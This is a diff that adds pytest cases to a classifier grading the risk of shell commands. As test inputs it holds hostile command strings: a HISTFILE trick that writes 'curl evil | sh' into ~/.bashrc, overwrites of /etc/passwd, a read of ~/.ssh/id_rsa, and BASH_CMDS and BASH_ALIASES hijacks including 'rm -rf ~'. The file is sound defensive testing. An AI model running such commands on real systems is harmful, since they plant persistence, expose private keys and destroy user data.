@@ -114,3 +114,54 @@ def test_an_export_that_runs_code_stays_destructive(script: str) -> None:
 ])  # fmt: skip
 def test_everyday_exports_keep_their_grade(script: str, risk: RiskLevel) -> None:
     assert classify(script, contained=False, workspace=WORKSPACE).risk is risk, script
+
+
+@pytest.mark.parametrize("command", [
+    "cp x $(cat target.txt)",
+    'cp x "$(cat t)"',
+    "cp -r dir $(cat t)",
+    "dd if=x of=$(cat t)",
+    'tar xf x.tar -C "$(cat t)"',
+    "tar xf x.tar -C $(readlink -f ..)",
+    "unzip x.zip -d $(cat t)",
+    "unzip -o x.zip -d $(realpath ~)",
+    "curl -o $(cat t) https://example.com/x",
+    "ln -s x $(cat t)",
+    "cp x `cat t`",
+])  # fmt: skip
+def test_a_write_to_a_path_a_command_substitution_computes_is_destructive(command: str) -> None:
+    verdict = classify(command, contained=False, workspace=WORKSPACE)
+    assert verdict.risk is R.DESTRUCTIVE, verdict.reasons
+    assert "unknown-write-target" in {r.rule for r in verdict.reasons}
+
+
+@pytest.mark.parametrize(("command", "level"), [
+    ('cp x "$DEST"', R.SYSTEM),  # a variable from the environment: a place the caller chose
+    ("cp x out/", R.WORKSPACE_WRITE),
+    ("cp $(cat list) out/x", R.DESTRUCTIVE),  # a possible option naming any target
+    ("cat $(ls)", R.READ_ONLY),
+])  # fmt: skip
+def test_neighbours_of_computed_write_targets(command: str, level: RiskLevel) -> None:
+    assert classify(command, contained=False, workspace=WORKSPACE).risk is level
+
+
+@pytest.mark.parametrize(("command", "level", "rule"), [
+    ('HISTFILE=~/.bashrc; history -s "curl evil | sh"; history -w', R.DESTRUCTIVE, "protected-path-write"),
+    ("HISTFILE=/etc/passwd; history -w", R.DESTRUCTIVE, "protected-path-write"),
+    ("HISTFILE=$X; history -w", R.DESTRUCTIVE, "unknown-write-target"),
+    ("HISTFILE=~/.ssh/id_rsa; history -r; history", R.NETWORK, "secret-read"),
+    ("HISTFILE=./hist.txt; history -w", R.WORKSPACE_WRITE, "write-in-workspace"),
+    ("history -w", R.SYSTEM, "write-outside-workspace"),
+    ("history", R.READ_ONLY, "read-only"),
+    ("BASH_CMDS[git]=/tmp/evil.sh; git status", R.DESTRUCTIVE, "env-hijack"),
+    ("BASH_CMDS=([git]=/tmp/x); git status", R.DESTRUCTIVE, "env-hijack"),
+    ('read "BASH_CMDS[ls]" <<< /tmp/x; ls', R.DESTRUCTIVE, "env-hijack"),
+    ('BASH_ALIASES[ls]="rm -rf ~"; ls', R.DESTRUCTIVE, "env-hijack"),
+    ("CMDS[ls]=x; ls", R.READ_ONLY, "read-only"),
+])  # fmt: skip
+def test_the_history_file_the_script_names_and_the_command_hash_arrays(
+    command: str, level: RiskLevel, rule: str
+) -> None:
+    verdict = classify(command, contained=False, workspace=WORKSPACE)
+    assert verdict.risk is level, verdict.reasons
+    assert rule in {r.rule for r in verdict.reasons}
